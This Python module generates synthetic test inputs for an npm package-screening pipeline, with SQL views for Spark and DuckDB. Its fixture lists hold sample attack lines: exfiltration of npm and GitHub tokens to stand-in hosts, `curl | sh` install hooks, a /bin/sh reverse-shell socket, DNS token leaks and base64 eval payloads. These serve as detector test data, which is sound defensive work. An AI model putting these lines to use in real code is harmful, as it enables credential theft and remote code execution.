"""Package-screening inputs derived from the given tables: files, manifests, records, requests and graphs.

VIEWS are SQL that Spark and DuckDB both read, with a table's name in braces; small dimensions stand beside them.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from sievework.functions.local import fixed_table
from sievework.operators.decide import replay_path, replay_verdict, rules_only_verdict

B64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrLw"
SNIPPETS = [
    "const a = 1;",
    "const t = process.env.NPM_TOKEN + process.env.GITHUB_TOKEN; fetch('https://sink.example/' + t);",
    "const t = process.env.NPM_TOKEN; fetch('https://sink.example/' + t);",
    "const k = readFileSync('/etc/passwd'); https.request('x');",
    "const cp = require('child_process'); cp.exec('curl https://a.example | sh');",
    "dns.lookup(process.env.SLACK_TOKEN + '.a.example');",
    "const s = new net.Socket();\nconst p = require('child_process').spawn('/bin/sh');\ns.pipe(p.stdin);",
    "const m = require(atob('ZnM=')); eval(m);",
    "eval('\\x61\\x62\\x63\\x64\\x65\\x66'); String.fromCharCode(97);",
    "eval(Buffer.from('YQ==', 'base64').toString());",
    "send(JSON.stringify(process.env));",
    "fetch('https://webhook.site/abc');",
    "const img = '" + (B64 * 8) + "';",
    "const p = '" + B64 + "';\nconst q = atob(p);\neval(q);",
    "const h = os.hostname(); dns.resolve(h + '.a.example');",
    "fs.unlinkSync(__filename);",
    "obj.__proto__.x = 1; module.exports = obj;",
    "module.exports = class A {};",
    "axios.get('http://localhost:80');",
    "new Function('return 1')();",
    "const r = require( './lib/f2'); const z = createReadStream('a');",
    "require(name);",
    "const d = dgram; const e = 'readFile only';",
    "// plain comment",
]
MANIFESTS = [
    '"version":"1.0.0","license":"MIT","description":"a long enough description of it","repository":{"url":"x"},"dependencies":{"a":"1"}',
    '"version":"1.0.1","scripts":{"postinstall":"node install.js"}',
    '"version":"1.0.2","scripts":{"postinstall":"curl https://get.example/x.sh | bash"},"license":"MIT"',
    '"version":"1.0.3","scripts":{"preinstall":"node -e \\"require(1)\\""},"description":"short"',
    '"version":"1.0.4","scripts":{"test":"jest","build":"tsc"},"license":"ISC","repository":"r","description":"twenty characters at least"',
    '"version":"1.0.5","scripts":{"postinstall":"husky install"},"dependencies":{"b":"2","c":"3"}',
    '"version":"1.0.6","scripts":{"install":"node-gyp rebuild"},"license":"MIT","devDependencies":{"d":"1"}',
    '"version":"1.0.7","scripts":{"postinstall":"node install.js && node lib/f3.js","prepare":"npm run build"},"repository":{"url":"y"}',
    '"version":"1.0.8","scripts":{"preinstall":"wget https://github.com/a/b.tgz"},"peerDependencies":{"e":"1"}',
    '"version":"1.0.9","scripts":{"postinstall":"echo ' + B64 + " | base64 -d | node\"}",
]
NAMES = ["lodahs", "expresss", "plain-name", "@scope/lodash", "react", "chalks", "some-tool", "requst", "vue-thing", "jset", "left-pad"]
#: Pieces of code as small trees: offset, parent's offset (-1: whatever is around) and type, name after a colon; a * marks the block that the next line's piece may go into.
PIECES = [
    "0 -1 lexical_declaration|1 0 variable_declarator|2 1 identifier:a|3 1 identifier:b",
    "0 -1 expression_statement|1 0 identifier:a|2 0 identifier:b",
    "0 -1 if_statement|1 0 parenthesized_expression|2 1 identifier:a|3 0 statement_block|4 3 expression_statement|5 4 identifier:c|6 0 else_clause|7 6 statement_block*|8 7 lexical_declaration|9 8 variable_declarator|10 9 identifier:a",
    "0 -1 for_statement|1 0 statement_block*|2 1 expression_statement|3 2 identifier:b",
    "0 -1 try_statement|1 0 statement_block|2 1 expression_statement|3 2 identifier:c|4 1 throw_statement|5 0 catch_clause|6 5 statement_block*|7 6 expression_statement",
    "0 -1 function_declaration|1 0 identifier:f|2 0 formal_parameters|3 2 identifier:a|4 2 identifier:b|5 0 statement_block*|6 5 expression_statement|7 6 identifier:a",
    "0 -1 while_statement|1 0 expression_statement|2 1 identifier:f",
    "0 -1 if_statement|1 0 parenthesized_expression|2 0 expression_statement|3 0 else|4 0 statement_block*",
    "0 -1 return_statement|1 0 identifier:f",
    "0 -1 lexical_declaration|1 0 variable_declarator|2 1 identifier:g|3 1 arrow_function|4 3 formal_parameters|5 4 identifier:b|6 3 statement_block*|7 6 expression_statement|8 7 identifier:g",
    "0 -1 if_statement|1 0 statement_block*|2 1 variable_declaration|3 2 variable_declarator|4 3 identifier:c",
    "0 -1 comment",
]
#: JSON values that manifests hold in place of what is expected there.
ODD_VALUES = ["null", "false", "true", "0", "0.0", "-3", '""', '"0"', '"a text of twenty characters"', "[]", "[0]", "{}", '{"url":"x"}', "1e2"]
RULES = ["MED_INSTALL_HOOK_EXISTS", "HIGH_OBFUSCATED_INSTALL", "CRIT_DYNAMIC_REQUIRE_EXEC", "MED_NETWORK_PLUS_FS", "CRIT_EXFIL_CREDENTIALS", "HIGH_WEBHOOK_EXFIL"]

VIEWS = {
    "files": f"""
        SELECT package_id, path, concat(text, chr(10), body) AS code FROM (
          SELECT CAST(floor(doc_id / 5.0) AS BIGINT) AS package_id, coalesce(text, '') AS text, doc_id % {len(SNIPPETS)} AS k,
                 CASE doc_id % 5 WHEN 0 THEN 'index.js' WHEN 1 THEN 'install.js' ELSE concat('lib/f', CAST(doc_id % 5 AS STRING), '.js') END AS path
          FROM {{documents}}) d JOIN {{snippets}} s ON d.k = s.n""",
    "manifests": """
        SELECT p.package_id, concat('{{"name":"', n.body, '",', m.body, '}}') AS raw
        FROM (SELECT DISTINCT CAST(floor(doc_id / 5.0) AS BIGINT) AS package_id FROM {documents}) p
        JOIN {names} n ON p.package_id % 11 = n.n JOIN {bodies} m ON p.package_id % 10 = m.n""",
    "odd_manifests": """
        SELECT p.package_id, concat('{{"name":"odd","license":', a.body, ',"repository":', b.body, ',"description":', c.body, ',"scripts":{{', CASE WHEN p.package_id % 3 > 0 THEN concat('"preinstall":', d.body, ',') ELSE '' END, '"postinstall":', a.body, '}}}}') AS raw
        FROM (SELECT DISTINCT doc_id AS package_id FROM {documents}) p JOIN {odd} a ON p.package_id % 14 = a.n JOIN {odd} b ON CAST(floor(p.package_id / 14.0) AS BIGINT) % 14 = b.n
        JOIN {odd} c ON p.package_id * 3 % 14 = c.n JOIN {odd} d ON p.package_id * 5 % 14 = d.n""",
    "scores": """
        SELECT DISTINCT CAST(floor(doc_id / 5.0) AS BIGINT) AS package_id,
               CASE WHEN CAST(floor(doc_id / 5.0) AS BIGINT) % 7 = 0 THEN NULL ELSE (CAST(floor(doc_id / 5.0) AS BIGINT) % 101) / CAST(100 AS DOUBLE) END AS gnn
        FROM {documents}""",
    "base": """
        SELECT concat('o', CAST(l_orderkey AS STRING), '-', CAST(l_linenumber AS STRING), '-', CAST(l_partkey AS STRING), '-', CAST(l_suppkey AS STRING)) AS package_name,
               concat('o', CAST(l_orderkey AS STRING), '-', CAST(l_linenumber AS STRING)) AS short_name,
               CAST(round(l_extendedprice * 100) AS BIGINT) * 1000 + l_suppkey % 1000 AS seq, l_orderkey % 2 AS run,
               CASE WHEN l_returnflag = 'R' THEN 1 ELSE 0 END AS true_label,
               CASE WHEN l_linenumber = 7 THEN CAST(-1 AS DOUBLE) ELSE l_quantity / CAST(50 AS DOUBLE) END AS gnn_score,
               CASE WHEN l_linenumber = 7 THEN CASE WHEN l_partkey % 3 = 0 THEN 'parse_error' WHEN l_partkey % 3 = 1 THEN '' END END AS gnn_error_type,
               CASE WHEN l_linenumber = 7 THEN 'failure' WHEN l_partkey % 13 = 0 THEN 'cpg_none' ELSE 'success' END AS cpg_status,
               (l_suppkey % 13) / CAST(20 AS DOUBLE) AS metadata_risk,
               l_partkey % 5 = 0 AS b0, l_partkey % 11 = 0 AS b1, l_partkey % 7 = 0 AS b2, l_partkey % 3 = 0 AS b3, l_partkey % 17 = 0 AS b4, l_partkey % 4 = 0 AS b5,
               l_suppkey % 4 = 0 AS hook, l_suppkey % 3 > 0 AS license, l_partkey % 2 = 0 AS repository,
               CAST(l_suppkey % 40 AS INT) AS description_length, CAST(l_partkey % 60 AS INT) AS num_nodes, CAST(l_suppkey % 25 AS INT) AS num_js_files,
               l_partkey % 6 = 0 AS network, l_partkey % 9 = 0 AS shell, l_partkey % 10 = 0 AS secrets, l_partkey % 8 = 0 AS obfuscation, l_suppkey % 6 = 0 AS build
        FROM {lineitem}""",
    "requests": """
        SELECT event_id, ts, concat('k', key, '@', CAST(user_id % 3 AS STRING)) AS key, concat('k', key) AS name,
               CASE event_type WHEN 'view' THEN 'metadata' ELSE 'tarball' END AS kind,
               CASE WHEN event_type = 'error' AND event_id % 3 = 0 THEN 'error' WHEN CAST(key AS INT) % 9 = 0 THEN 'malicious' WHEN CAST(key AS INT) % 5 = 0 THEN 'suspicious' ELSE 'clean' END AS verdict,
               CAST(floor(value * 1000) AS BIGINT) AS size
        FROM (SELECT event_id, ts, user_id, event_type, value, KEY_OF_PROPS AS key FROM {events}) e""",
    "edges": """
        SELECT CAST(label AS BIGINT) AS package_id, vec_id AS src, (vec_id * 7 + 1) % (SELECT count(*) FROM {embeddings}) AS dst, label % 4 AS edge_type, (label % 3 - 1) / CAST(10 AS DOUBLE) AS bias FROM {embeddings}""",
    "statements": """
        SELECT conv_id AS package_id, conv_id * 1000 AS parent_id, conv_id * 1000 + turn + 1 AS node_id,
               CASE WHEN turn % 5 = 4 THEN 'return_statement' WHEN role = 'user' THEN 'expression_statement' WHEN role = 'assistant' THEN 'lexical_declaration' ELSE 'comment' END AS type, text
        FROM {conversations}""",
    "tree": f"""
        SELECT l.package_id, 1 + l.t * 16 + p.o AS node_id,
               CASE WHEN p.up >= 0 THEN 1 + l.t * 16 + p.up WHEN l.size % 30 >= 10 AND q.o IS NOT NULL THEN 1 + (l.t - 1) * 16 + q.o ELSE 0 END AS parent_id, p.type, p.text
        FROM (LINES_OF_TEXTS) l JOIN {{pieces}} p ON l.size % {len(PIECES)} = p.n LEFT JOIN (SELECT n, o FROM {{pieces}} WHERE slot = 1) q ON l.before % {len(PIECES)} = q.n
        UNION ALL SELECT doc_id, CAST(0 AS BIGINT), CAST(NULL AS BIGINT), 'program', '' FROM {{documents}}""",
    "dependencies": """
        SELECT DISTINCT l_orderkey AS lockfile_id, concat('pkg', CAST(l_partkey AS STRING)) AS name, '1.0.0' AS version FROM {lineitem}""",
    "part_verdicts": """
        SELECT concat('pkg', CAST(p_partkey AS STRING)) AS name, CASE WHEN p_partkey % 97 = 0 THEN 'malicious' WHEN p_partkey % 31 = 0 THEN 'suspicious' ELSE 'clean' END AS verdict
        FROM {part} WHERE p_partkey % 53 <> 0""",
    "items": """
        SELECT o_orderkey AS item_id, CASE WHEN o_orderstatus = 'F' THEN 1 ELSE 0 END AS label, concat('c', CAST(o_custkey % 200 AS STRING)) AS campaign, o_custkey % 16 AS shard,
               CAST(floor(o_totalprice / 10) AS BIGINT) AS nodes FROM {orders}""",
    "calls": """
        SELECT concat('u', CAST(user_id AS STRING)) AS key, event_id AS id, event_id AS at, event_type FROM {events} WHERE event_type IN ('signup', 'view')""",
}
LINES = {
    "spark": r"SELECT doc_id AS package_id, CAST(t AS BIGINT) AS t, length(line) AS size, length(get(lines, t - 1)) AS before FROM (SELECT doc_id, split(coalesce(text, ''), '\\n') AS lines FROM {documents}) LATERAL VIEW posexplode(lines) AS t, line",
    "duckdb": "SELECT doc_id AS package_id, t, length(lines[t + 1]) AS size, CASE WHEN t > 0 THEN length(lines[t]) END AS before FROM (SELECT doc_id, lines, unnest(range(len(lines))) AS t FROM (SELECT doc_id, string_split(coalesce(text, ''), chr(10)) AS lines FROM {documents}) a) b",
}
PROPS = {"spark": "get_json_object(props, '$.k')", "duckdb": "json_extract_string(props, '$.k')"}
DIMS = {"snippets": SNIPPETS, "names": NAMES, "bodies": MANIFESTS, "odd": ODD_VALUES}


def piece_rows() -> list[tuple]:
    """n, o, up, type, text and slot of each node of PIECES."""
    parts = [(n, *x.split(" ")) for n, piece in enumerate(PIECES) for x in piece.split("|")]
    return [(n, int(o), int(up), kind.rstrip("*").split(":")[0], kind.partition(":")[2], int(kind.endswith("*"))) for n, o, up, kind in parts]


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    sql = VIEWS[name].replace("KEY_OF_PROPS", PROPS["spark"]).replace("LINES_OF_TEXTS", LINES["spark"])
    pieces = lambda: fixed_table(spark, piece_rows(), "n long, o long, up long, type string, text string, slot long")
    used = {t: pieces() if t == "pieces" else fixed_table(spark, list(enumerate(DIMS[t])), "n long, body string") if t in DIMS else spark.read.parquet(f"{sf_dir}/{t}.parquet") for t in re.findall(r"(?<!\{)\{(\w+)\}(?!\})", sql)}
    return spark.sql(sql, **used)


def cte(name: str) -> str:
    """The same view as DuckDB SQL."""
    quote = lambda x: "'" + x.replace("'", "''") + "'"
    dims = {k: "(VALUES " + ", ".join(f"({i}, {quote(x)})" for i, x in enumerate(v)) + f") AS _{k}(n, body)" for k, v in DIMS.items()}
    dims["pieces"] = "(VALUES " + ", ".join(str(r) for r in piece_rows()) + ") AS _pieces(n, o, up, type, text, slot)"
    sql = VIEWS[name].replace("KEY_OF_PROPS", PROPS["duckdb"]).replace("LINES_OF_TEXTS", LINES["duckdb"])
    for k in re.findall(r"(?<!\{)\{(\w+)\}(?!\})", sql):
        sql = sql.replace("{" + k + "}", f"(SELECT * FROM {dims[k]})" if k in dims else k)
    return sql.replace("{{", "{").replace("}}", "}")


def records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Evaluation records from lineitem: scores and labels given, rule scores and verdicts by the operators."""
    rows = view(spark, sf_dir, "base")
    bits = [F.when(F.col(f"b{i}"), r) for i, r in enumerate(RULES)]
    parts, raws = [0.4, 5.0, 1.5, 0.2, 10.0, 1.0], [2.0, 5.0, 15.0, 2.0, 10.0, 5.0]
    total = lambda xs, only=range(6): F.round(sum((F.when(F.col(f"b{i}"), xs[i]).otherwise(0.0) for i in only), F.lit(0.0)), 6)
    rows = rows.withColumns({"rules_matched": F.array_compact(F.array(*bits)), "weighted": total(parts), "hard_score": total(parts, (1, 4)), "rules_score": total(raws)})
    g, w, h = F.col("gnn_score"), F.col("weighted"), F.col("hard_score")
    rows = rows.withColumns({"hybrid_verdict": replay_verdict(g, w, h), "decision_bucket": replay_path(g, w, h), "rules_verdict": rules_only_verdict(F.col("b2") | F.col("b4"), F.col("rules_score"))})
    return rows.withColumn("risk_score", sum((F.col(n).cast("int") for n in ("network", "shell", "secrets", "obfuscation")), F.lit(0)))
